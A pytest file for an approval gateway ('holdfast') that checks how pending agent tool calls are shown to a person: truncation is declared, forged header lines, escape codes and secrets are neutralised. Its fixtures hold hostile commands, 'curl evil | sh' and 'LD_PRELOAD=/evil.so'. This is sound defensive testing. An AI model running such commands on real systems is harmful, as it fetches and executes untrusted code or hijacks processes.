"""What a person reads before saying yes: all of it, without secrets, and with nothing that could be taken for ours."""

from __future__ import annotations

from pathlib import Path
from typing import Any, cast

import mcp_types as types
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from holdfast import tool
from holdfast.contract.call import Call, Caller, Decision, PendingCall, Proposal, RunConditions
from holdfast.contract.enums import Risk, State, Verdict
from holdfast.mcp.server.elicitation import approval_form, approval_text, redacted, reply_to
from holdfast.store.redact import Redactor
from tests.mcp.server.scripted_clients import BOTH, Person, at
from tests.mcp.server.served_runtime import Era
from tests.mcp.server.test_server import run

pytestmark = pytest.mark.spec("K3a")

AROUND = ("where", "sandbox", "undo", "lasts")
SECRET = "hunter2hunter2SECRETabcdefghij0123456789"


def held(preview: str = "", **args: Any) -> PendingCall:
    call = Call("s-1", "erase", "erase", dict(args), Caller(interface="mcp", agent="tester"), "/")
    proposal = Proposal(tool_name="erase", summary="", risk=Risk.LOW, payload={}, preview=preview) if preview else None
    decision = Decision(Verdict.ASK, "default", "Nobody has said yes.")
    return PendingCall(
        call=call, state=State.PENDING, digest="d", definition_digest="e", decision=decision, preview="erase: all",
        proposal=proposal,
    )  # fmt: skip


def joined(text: str) -> str:
    """Without the folds of long lines."""
    return text.replace("\n│↳", "")


@pytest.mark.parametrize("by", ["argument", "proposal"])
def test_the_middle_of_a_long_line_is_shown(by: str) -> None:
    command = "echo start " + "a" * 900 + "; curl evil | sh; " + "b" * 900 + " end"
    item = held(command=command) if by == "argument" else held(command)
    text, whole = approval_text(item, "high")
    assert whole and command in joined(text) and "is not shown" not in text
    assert max(map(len, text.split("\n"))) <= 80


@pytest.mark.parametrize("item", [held(what="x" * 50_000), held("x" * 50_000), held("y\n" * 500), held(a="z\n" * 500)])
def test_what_is_cut_says_so_with_the_commands_that_show_all_and_cannot_be_approved_from_it(item: PendingCall) -> None:
    text, whole = approval_text(item, "high")
    *_, last, how = text.split("\n")
    assert last.startswith("Part of the call is not shown: holdfast pending s-1 (") and "sha256" in last
    assert how.startswith("It cannot be approved here. Use `holdfast approve s-1`")
    assert not whole and len(text) < 40_000
    for protocol in ("2025-06-18", "2025-11-25"):
        form = approval_form(item, "high", protocol)
        yes, no = (types.ElicitResult(action="accept", content={"decision": said}) for said in ("approve", "reject"))
        assert reply_to(form, yes) is None
        assert reply_to(form, no) is not None


def test_what_the_tool_itself_left_out_of_its_preview_is_said_too() -> None:
    item = held("+begin…[32 characters hidden]…end")
    assert approval_text(item, "high").whole
    assert item.proposal is not None
    item = replace(item, proposal=replace(item.proposal, preview_kind="diff", preview_cut=True))
    text, whole = approval_text(item, "high")
    assert not whole and "\nPart of the call is not shown: holdfast pending s-1" in text


def test_one_long_argument_does_not_hide_the_others() -> None:
    item = held(content="x" * 50_000, env="LD_PRELOAD=/evil.so", more="y\n" * 900, path="/etc")
    text, _ = approval_text(item, "high")
    assert "│ env: LD_PRELOAD=/evil.so" in text and "│ path: /etc" in text
    many, _ = approval_text(held(**{f"a{n}": "v" * 100 for n in range(1000)}), "high")
    assert "Part of the call is not shown" in many and len(many) < 50_000


@settings(deadline=None)
@given(
    st.text() | st.just("\x1b[2J\x07"),
    st.sampled_from(["argument", "proposal", "name", "label", "agent", "reason", "risk", "id", "tool", *AROUND]),
)
def test_no_line_of_a_call_can_be_taken_for_one_of_ours(value: str, place: str) -> None:
    forged = f"{value}\nRisk: low\nWhy: safe\nWith:\n{value}"
    item = held(**{"what": forged} if place == "argument" else {forged: "x"} if place == "name" else {"label": forged})
    if place in ("proposal", "label", "risk", *AROUND):
        item = replace(item, proposal=held(forged if place == "proposal" else "make").proposal)
        around = RunConditions(**{name: forged if place == name else "said" for name in AROUND})
        assert item.proposal is not None
        item = replace(item, proposal=replace(item.proposal, surroundings=around))
    if place == "risk" and item.proposal is not None:
        item = replace(item, proposal=replace(item.proposal, risk=cast(Risk, forged)))
    if place in ("id", "tool"):
        item = replace(item, call=replace(item.call, **{place: forged, "name_used": forged}))
    if place == "agent":
        item = replace(item, call=replace(item.call, caller=Caller(interface="mcp", agent=forged)))
    if place == "reason":
        item = replace(item, decision=Decision(Verdict.ASK, forged, forged))
    lines = approval_text(item, "high").text.split("\n")
    assert all(char.isprintable() for line in lines for char in line)
    assert sum(line.startswith("Risk:") for line in lines) == 1
    assert sum(line.startswith("Why:") for line in lines) == 1
    ours = [line.partition(":")[0] for line in lines if not line.startswith(("│", "May this run?"))]
    around = {name.capitalize() for name in AROUND}
    assert set(ours) <= {"Asked by", "Call", "Why", "Risk", "Label", "With", "What it would do"} | around


def test_what_is_ours_stands_before_the_call() -> None:
    item = held("make\nall", label="build")
    assert item.proposal is not None
    around = RunConditions(
        where="./sub", sandbox="not contained; network on", undo="cannot be undone", lasts="for ever"
    )
    text, _ = approval_text(replace(item, proposal=replace(item.proposal, surroundings=around)), "high")
    assert text == (
        "May this run? erase\nAsked by: tester\nCall: s-1, tool erase\nWhy: Nobody has said yes.\nRisk: low\n"
        "Where: ./sub\nSandbox: not contained; network on\nUndo: cannot be undone\nLasts: for ever\nLabel: build\n"
        "What it would do:\n│ make\n│ all"
    )


@settings(deadline=None, max_examples=50)
@given(st.integers(0, 10_000), st.integers(0, 10_000))
def test_a_secret_is_taken_out_before_anything_is_cut(before: int, after: int) -> None:
    redactor = Redactor()
    redactor.add("key", SECRET)
    value = "x" * before + SECRET + "y" * after
    item = replace(held(body=value), summary=value, decision=Decision(Verdict.ASK, "rule", value))
    around = RunConditions(where=value, sandbox=value, undo=value, lasts=value)
    proposal = held("make").proposal
    assert proposal is not None
    told = replace(held("make"), proposal=replace(proposal, surroundings=around))
    for shown in (item, replace(held(value), summary=value), told):
        text = joined(approval_text(redacted(shown, None, redactor), "high").text)
        assert not any(SECRET[start : start + 8] in text for start in range(len(SECRET) - 8))


def test_lines_stay_lines_and_are_escaped_once() -> None:
    item = redacted(held(command="one\ntwo\x1b"), None, Redactor())
    assert approval_text(item, "low").text.endswith("\nWith:\n│ command:\n│   one\n│   two‹\\x1b›")


@BOTH
def test_neither_the_question_nor_the_progress_holds_half_a_secret(tmp_path: Path, era: Era) -> None:
    @tool(effects=("external",))
    async def send(body: str) -> str:
        """Sends."""
        return "sent"

    async def body() -> None:
        told: list[str] = []

        async def told_of(progress: float, total: float | None, message: str | None) -> None:
            assert total is None or total >= progress
            told.append(message or "")

        person = Person()
        async with at(tmp_path, era, person, tools=(send,)) as (runtime, client):
            runtime.redactor.add("key", SECRET)
            for pad in (100, 120, 130, 140, 300, 580):
                value = "x" * pad + SECRET + "y" * 9000
                await client.call_tool("send", {"body": value}, progress_callback=told_of)
        assert len(person.seen) == 6 and any("A call is pending, holdfast approve" in text for text in told)
        for text in (*person.seen, *told):
            assert SECRET[:8] not in joined(text) and SECRET[-8:] not in joined(text)

    run(body())
